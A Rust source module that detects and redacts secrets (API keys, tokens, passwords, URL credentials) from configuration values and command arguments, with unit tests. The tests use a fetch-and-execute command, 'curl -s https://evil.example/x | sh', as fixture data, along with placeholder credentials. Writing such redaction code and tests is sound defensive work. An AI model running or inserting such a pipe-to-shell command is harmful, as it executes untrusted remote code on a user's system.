//! Which configured values are secrets. Those are kept out of recordings and lists; whatever else is masked makes them
//! unreadable, so ordinary words, paths and plain addresses never are.

use crate::mcp::process;
use crate::recording::redact::Redactor;

/// How a name ends that says what it holds, however it is put together: `APIKEY`, `GITHUB_TOKEN`.
const ENDINGS: &[&str] = &["KEY", "TOKEN", "SECRET", "PASS", "PASSWORD", "PASSWD", "PWD", "CREDENTIAL", "CREDENTIALS"];
/// Words that end like that by chance.
const OTHER_WORDS: &[&str] =
    &["BYPASS", "COMPASS", "ENCOMPASS", "MONKEY", "OVERPASS", "SURPASS", "TRESPASS", "TURKEY", "UNDERPASS"];
/// Words of a name that say so, too short to be looked for inside others.
const WORDS: &[&str] =
    &["AUTH", "OAUTH", "AUTHORIZATION", "COOKIE", "JWT", "KEYS", "PASSPHRASE", "PAT", "SECRETS", "SIG", "SIGNATURE"];
/// Last words of a name that holds something about a secret, not the secret: `AUTH_MODE`, `TOKEN_URL`.
const ABOUT: &[&str] = &[
    "ALGORITHM",
    "DIR",
    "ENDPOINT",
    "FILE",
    "HOST",
    "ID",
    "ISSUER",
    "KIND",
    "LENGTH",
    "LIMIT",
    "METHOD",
    "MODE",
    "NAME",
    "PATH",
    "SCHEME",
    "SCOPE",
    "TIMEOUT",
    "TTL",
    "TYPE",
    "URI",
    "URL",
    "USER",
];
/// What stands before the secret in a header.
const SCHEMES: &[&str] = &["bearer", "basic", "token", "apikey"];
/// How often an argument is cut at a `=` or `:` to look for a secret behind it.
const MOST_CUTS: usize = 9;
/// The shortest value that can look random.
const RANDOM_FROM: usize = 16;
/// The longest word, and the most of them in one value, that count as ordinary.
const ORDINARY: (usize, usize) = (16, 3);

/// Values that are to be kept out of recordings and lists, each with a name to tell it by.
#[derive(Clone, Default, PartialEq, Eq)]
pub struct Secrets(Vec<(String, String)>);

impl std::fmt::Debug for Secrets {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Secrets({})", self.0.len())
    }
}

impl Secrets {
    /// Takes a value that came out of our own environment: it stands there to be in no file, so it is a secret unless it
    /// is a path, a plain address or an ordinary word, or every server gets it anyway.
    pub fn put_in(&mut self, name: &str, value: &str) {
        if process::ALLOWED.contains(&name) {
            return;
        }
        if is_address(value) || says_so(name) {
            return self.field(name, value);
        }
        if !is_path(value) && !is_ordinary(value) {
            self.keep(name, value);
        }
    }

    /// Takes what is written under a name: of `env`, of `headers`, of an option. It is a secret if the name says so or the
    /// value looks random; so is a part of it that stands in it under such a name.
    pub fn field(&mut self, name: &str, value: &str) {
        let value = value.trim();
        if is_address(value) {
            return self.address(value);
        }
        if let Some((scheme, key)) = value.split_once(' ')
            && SCHEMES.contains(&scheme.to_lowercase().as_str())
            && (says_so(name) || looks_random(key.trim()))
        {
            self.keep(name, value);
            return self.keep(name, key.trim());
        }
        if looks_random(value) || (says_so(name) && !is_file(value)) {
            return self.keep(name, value);
        }
        self.pairs(value, [';', '&', ' ']);
    }

    /// Takes a command's arguments: `--api-key VALUE`, `--api-key=VALUE`, `NAME=VALUE`, `Name: value`, addresses, and what
    /// looks random.
    pub fn args(&mut self, args: &[String]) {
        for (at, arg) in args.iter().enumerate() {
            let option = at.checked_sub(1).map(|before| args[before].as_str()).filter(|before| before.starts_with('-'));
            match option.filter(|option| says_so(option) && !option.contains('=') && !arg.starts_with('-')) {
                Some(option) => self.field(option.trim_start_matches('-'), arg),
                None => self.arg(arg),
            }
        }
    }

    /// Takes the secrets of an address: user and password, what is asked for behind the `?`, and parts that look random.
    pub fn address(&mut self, url: &str) {
        let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
        let (place, asked) = rest.split_once(['?', '#']).unwrap_or((rest, ""));
        let (host, path) = place.split_once('/').unwrap_or((place, ""));
        if let Some((user, _)) = host.rsplit_once('@') {
            match user.split_once(':') {
                Some((_, password)) => {
                    self.keep("user", user);
                    self.keep("password", password);
                }
                None if !is_ordinary(user) => self.keep("user", user),
                None => {}
            }
        }
        for part in path.split('/').filter(|part| looks_random(part)) {
            self.keep("path", part);
        }
        if asked.contains('=') {
            self.keep("query", asked);
        }
        self.pairs(asked, ['&', '#', ';']);
    }

    /// What keeps them out.
    #[must_use]
    pub fn redactor(&self) -> Redactor {
        let mut redactor = Redactor::default();
        for (name, value) in &self.0 {
            redactor.add(name, value);
        }
        redactor
    }

    /// A line of text without them, and without keys of a known form.
    #[must_use]
    pub fn hide(&self, text: &str) -> String {
        let json = serde_json::Value::String(text.to_owned()).to_string();
        serde_json::from_str(&self.redactor().redact(&json)).unwrap_or_default()
    }

    /// The names of those that are ordinary words: each is masked wherever that word stands.
    pub fn ordinary(&self) -> impl Iterator<Item = &str> {
        self.0
            .iter()
            .filter(|(_, value)| is_ordinary(value) && self.hide(value) != *value)
            .map(|(name, _)| name.as_str())
    }

    /// Takes what stands in an argument, behind its `=` and `:` too, as far as one goes that is meant to be read.
    fn arg(&mut self, arg: &str) {
        let mut rest = arg;
        for _ in 0..MOST_CUTS {
            if is_address(rest) {
                return self.address(rest);
            }
            match rest.split_once(['=', ':']).map(|(name, value)| (name.trim(), value.trim())) {
                // A sentence or a script is no name.
                Some((name, value)) if says_so(name) && !name.contains(' ') => {
                    return self.field(name.trim_start_matches('-'), value);
                }
                Some((_, value)) => rest = value,
                None if looks_random(rest) => return self.keep("argument", rest),
                None => return,
            }
        }
    }

    /// `name=value` parts whose name says so, or whose value looks random.
    fn pairs(&mut self, text: &str, between: [char; 3]) {
        for (name, value) in text.split(between).filter_map(|pair| pair.split_once('=')) {
            if looks_random(value) || (says_so(name) && !is_path(value)) {
                self.keep(name, value);
            }
        }
    }

    fn keep(&mut self, name: &str, value: &str) {
        let is_variable = value.starts_with("${") && value.ends_with('}');
        let pair = (name.to_owned(), value.to_owned());
        if !is_variable && !self.0.contains(&pair) {
            self.0.push(pair);
        }
    }
}

/// Whether a name says that a secret stands under it.
fn says_so(name: &str) -> bool {
    let mut words: Vec<String> = vec![String::new()];
    let mut was_lower = false;
    for letter in name.chars() {
        let is_new = !letter.is_alphanumeric() || (letter.is_uppercase() && was_lower);
        was_lower = letter.is_lowercase();
        if is_new {
            words.push(String::new());
        }
        if let Some(word) = words.last_mut().filter(|_| letter.is_alphabetic()) {
            word.extend(letter.to_uppercase());
        }
    }
    words.retain(|word| !word.is_empty());
    let is_secret = |word: &String| {
        let word = word.as_str();
        let ends_so = ENDINGS.iter().any(|ending| word.ends_with(ending)) && !OTHER_WORDS.contains(&word);
        ends_so || WORDS.contains(&word)
    };
    words.iter().any(is_secret) && !words.last().is_some_and(|last| ABOUT.contains(&last.as_str()))
}

/// Whether a value is long, of one piece, and mixes letters and digits as words, numbers and versions do not.
fn looks_random(value: &str) -> bool {
    let is_of_keys = |letter: char| letter.is_ascii_alphanumeric() || "-_.~+=".contains(letter);
    if value.len() < RANDOM_FROM || !value.chars().all(is_of_keys) {
        return false;
    }
    let mut parts = value.split(|letter: char| !letter.is_ascii_alphanumeric());
    let all: usize = parts.clone().map(turns).sum();
    all >= 5 || parts.any(|part| part.len() >= 20 && turns(part) >= 2)
}

/// How often letters and digits take turns.
fn turns(part: &str) -> usize {
    part.as_bytes().windows(2).filter(|pair| pair[0].is_ascii_digit() != pair[1].is_ascii_digit()).count()
}

/// Whether a value is a place in the file system, no part of which looks random.
fn is_path(value: &str) -> bool {
    let is_rooted = ["/", "./", "../", "~/"].iter().any(|root| value.starts_with(root)) || value == "~";
    is_rooted && !value.split('/').any(looks_random)
}

/// Whether a value under a telling name is a file that has the secret: every part of its path is a name, while a key that
/// only begins with a slash has digits between its letters.
fn is_file(value: &str) -> bool {
    let is_name = |part: &str| {
        let shouts = part.chars().filter(char::is_ascii_uppercase).count();
        turns(part) < 2 && (shouts <= 2 || shouts == part.chars().filter(char::is_ascii_alphabetic).count())
    };
    is_path(value) && value.split('/').all(is_name)
}

fn is_address(value: &str) -> bool {
    let is_scheme = |scheme: &str| !scheme.is_empty() && scheme.chars().all(|c| c.is_ascii_alphanumeric() || c == '+');
    !value.contains(char::is_whitespace) && value.split_once("://").is_some_and(|(scheme, _)| is_scheme(scheme))
}

/// Whether a value is a few words as people write them, such as `critical`, `us-east-1`, `Europe/Oslo`.
fn is_ordinary(value: &str) -> bool {
    let (longest, most) = ORDINARY;
    let is_word = |part: &str| {
        let is_number = part.len() <= 2 && part.bytes().all(|byte| byte.is_ascii_digit());
        let tail = part.char_indices().nth(1).map_or("", |(at, _)| &part[at..]);
        let is_one_case = tail.chars().all(char::is_lowercase) || part.chars().all(char::is_uppercase);
        is_number || (part.len() <= longest && part.chars().all(char::is_alphabetic) && is_one_case)
    };
    value.split(['-', '_', '.', '/', ' ']).count() <= most && value.split(['-', '_', '.', '/', ' ']).all(is_word)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(take: impl FnOnce(&mut Secrets)) -> Vec<String> {
        let mut secrets = Secrets::default();
        take(&mut secrets);
        secrets.0.into_iter().map(|(_, value)| value).collect()
    }

    #[test]
    fn ordinary_words_are_no_secrets_and_a_key_may_begin_with_a_slash() {
        assert_eq!(found(|it| it.field("DATABASE", "postgres://customers@db/x")), [""; 0]);
        assert_eq!(found(|it| it.field("PLAN", "Basic customer")), [""; 0]);
        assert_eq!(found(|it| it.field("SSH_KEY", "/home/ann/.ssh/id_ed25519")), [""; 0]);
        let key = "/wJalrXU/K7MDENG/bPxRfiCYEXAMPLEKEY";
        assert_eq!(found(|it| it.field("AWS_SECRET_ACCESS_KEY", key)), [key]);
    }

    #[test]
    fn an_argument_of_nothing_but_signs_costs_nothing() {
        assert_eq!(found(|it| it.args(&[":=".repeat(500_000)])), [""; 0]);
    }

    #[test]
    fn a_name_says_what_it_holds_however_it_is_written() {
        for name in [
            "API_KEY",
            "apiKey",
            "APIKEY",
            "x-api-key",
            "GITHUB_TOKEN",
            "clientSecret",
            "PGPASSWORD",
            "MYSQL_PWD",
            "DBPASS",
            "smtpPass",
            "FTP_PASS",
            "AUTH",
            "Authorization",
            "OAUTH",
            "TOKEN_2",
            "TOKEN2",
            "CREDENTIALS",
            "--access-token",
            "Cookie",
        ] {
            assert!(says_so(name), "{name}");
        }
        for name in [
            "AUTHOR",
            "MAX_TOKENS",
            "AUTH_MODE",
            "TOKEN_URL",
            "KEYBOARD",
            "COMPASS",
            "PROXY_BYPASS",
            "COMPAT",
            "SECRET_NAME",
            "LOG_LEVEL",
            "PASSWORD_FILE",
            "tokenEndpoint",
            "",
        ] {
            assert!(!says_so(name), "{name}");
        }
    }

    #[test]
    fn what_a_file_says_in_the_open_stays_readable() {
        let plain = [
            "critical",
            "customer",
            "production",
            "/bin/bash",
            "curl -s https://evil.example/x | sh",
            "gpt-4o-mini-2024-07-18",
            "claude-3-5-sonnet-20241022",
            "node-v20.11.0-linux-x64",
            "http://localhost:8080/mcp",
            "2026-07-28T10:00:00Z",
            "--require ./x",
            "/tmp/tmp.Xa8sd9f7a8s9df7k",
            "db-01.internal.example.com:5432",
        ];
        for value in plain {
            assert_eq!(found(|secrets| secrets.field("LEVEL", value)), [""; 0], "{value}");
        }
        for value in ["/run/secrets/github", "https://id.example/token", "${API_KEY}"] {
            assert_eq!(found(|secrets| secrets.field("TOKEN", value)), [""; 0], "{value}");
        }
    }

    #[test]
    fn a_secret_is_known_by_its_name_or_by_its_look() {
        for (name, value) in [
            ("TOKEN", "hush-hush-hush"),
            ("PASSWORD", "correct horse battery"),
            ("SEED", "d41d8cd98f00b204e9800998ecf8427e"),
            ("TENANT", "550e8400-e29b-41d4-a716-446655440000"),
            ("X", "aB3xY9kQ2mN7pR4tZ8wL"),
            ("AWS_SECRET_ACCESS_KEY", "/JalrXUtnFEMI4K7MDENG2bPxRfiCY3EXAMPLE9"),
        ] {
            assert_eq!(found(|secrets| secrets.field(name, value)), [value]);
        }
        let header = found(|secrets| secrets.field("Authorization", "Bearer abcdefgh"));
        assert_eq!(header, ["Bearer abcdefgh", "abcdefgh"]);
        let login = found(|secrets| secrets.field("DATABASE", "Server=db;User=me;Password=hunter2hunter2;"));
        assert_eq!(login, ["hunter2hunter2"]);
    }

    #[test]
    fn what_comes_out_of_the_environment_is_secret_unless_it_is_a_place_or_a_word() {
        for (name, value) in [("HOME", "/h"), ("DIR", "/srv/x"), ("LOG_LEVEL", "critical"), ("AWS_REGION", "us-east-1")]
        {
            assert_eq!(found(|secrets| secrets.put_in(name, value)), [""; 0], "{name}");
        }
        for (name, value) in [("LOGIN", "one two three four"), ("LOGIN", "12345678"), ("PASSWORD", "critical")] {
            assert_eq!(found(|secrets| secrets.put_in(name, value)), [value]);
        }
    }

    #[test]
    fn secrets_are_found_in_arguments_and_addresses() {
        let words = |text: &str| text.split('|').map(str::to_owned).collect::<Vec<_>>();
        for (args, secret) in [
            ("-y|server|--api-key|my-own-key|--verbose", "my-own-key"),
            ("--token=my-own-key", "my-own-key"),
            ("run|-e|DB_PASSWORD=my-own-key|image", "my-own-key"),
            ("--header|X-Api-Key: my-own-key", "my-own-key"),
            ("--header=X-Api-Key:my-own-key", "my-own-key"),
            ("aB3xY9kQ2mN7pR4tZ8wL", "aB3xY9kQ2mN7pR4tZ8wL"),
            ("postgres://me:my-own-key@db/x", "my-own-key"),
        ] {
            let found = found(|secrets| secrets.args(&words(args)));
            assert!(found.contains(&secret.to_owned()), "{args}: {found:?}");
        }
        let harmless =
            "-c|curl -s https://evil.example/x | sh|--level=critical|--auth-mode|customer|--key-file|./key|C:\\x";
        assert_eq!(found(|secrets| secrets.args(&words(harmless))), [""; 0]);
        let url = "https://x.test/mcp/s/aB3xY9kQ2mN7pR4tZ8wL?token=tok-query-4242&project=tickets";
        let wanted = ["aB3xY9kQ2mN7pR4tZ8wL", "token=tok-query-4242&project=tickets", "tok-query-4242"];
        assert_eq!(found(|secrets| secrets.address(url)), wanted);
        assert_eq!(found(|secrets| secrets.address("https://x.test:8080/mcp/tickets#top")), [""; 0]);
    }
}
